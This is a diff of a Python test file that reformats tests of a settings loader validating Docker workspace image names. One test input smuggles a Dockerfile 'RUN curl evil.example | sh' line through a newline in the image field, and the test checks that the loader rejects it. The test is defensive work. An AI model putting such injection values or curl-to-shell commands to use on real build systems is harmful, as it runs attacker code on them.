@@ -135,18 +135,27 @@ def test_load_settings_reads_only_the_mapping_it_is_given(monkeypatch) -> None:
 )
 def test_workspace_image_accepts_image_references(image: str) -> None:
     settings = load_settings(
-        {"DOKPLOY_SERVER_URL": "https://d.example", "DOKPLOY_API_TOKEN": "tok1", "WORKSPACE_IMAGE": image}
+        {
+            "DOKPLOY_SERVER_URL": "https://d.example",
+            "DOKPLOY_API_TOKEN": "tok1",
+            "WORKSPACE_IMAGE": image,
+        }
     )
     assert settings.workspace_image == image
 
 
 @pytest.mark.parametrize(
-    "image", ["debian:bookworm\nRUN curl evil.example | sh", "debian bookworm", "Debian:12", "a:b:c"]
+    "image",
+    ["debian:bookworm\nRUN curl evil.example | sh", "debian bookworm", "Debian:12", "a:b:c"],
 )
 def test_workspace_image_refuses_what_would_change_the_dockerfile(image: str) -> None:
     with pytest.raises(ConfigurationError, match="WORKSPACE_IMAGE"):
         load_settings(
-            {"DOKPLOY_SERVER_URL": "https://d.example", "DOKPLOY_API_TOKEN": "tok1", "WORKSPACE_IMAGE": image}
+            {
+                "DOKPLOY_SERVER_URL": "https://d.example",
+                "DOKPLOY_API_TOKEN": "tok1",
+                "WORKSPACE_IMAGE": image,
+            }
         )
 
 
